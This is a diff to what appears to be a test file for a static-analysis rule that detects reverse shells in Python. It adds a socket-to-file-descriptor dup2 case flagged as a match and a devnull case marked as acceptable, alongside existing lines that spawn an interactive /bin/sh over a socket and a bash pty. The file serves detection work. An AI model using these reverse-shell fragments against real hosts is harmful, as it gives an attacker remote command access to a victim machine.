@@ -32,6 +32,26 @@ def subprocess_shell():
     subprocess.call(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno())
 
 
+def guarded_connect():
+    try:
+        sock = socket.create_connection((HOST, PORT), timeout=10)
+    except OSError:
+        return
+    for fd in (0, 1, 2):
+        # ruleid: reverse-shell
+        os.dup2(sock.fileno(), fd)
+
+
+def guarded_probe():
+    try:
+        sock = socket.create_connection((HOST, PORT), timeout=10)
+    except OSError:
+        return
+    # ok: reverse-shell
+    os.dup2(os.open(os.devnull, os.O_RDWR), 0)
+    sock.close()
+
+
 def pty_list():
     # ruleid: reverse-shell
     pty.spawn(["/bin/bash", "-l"])
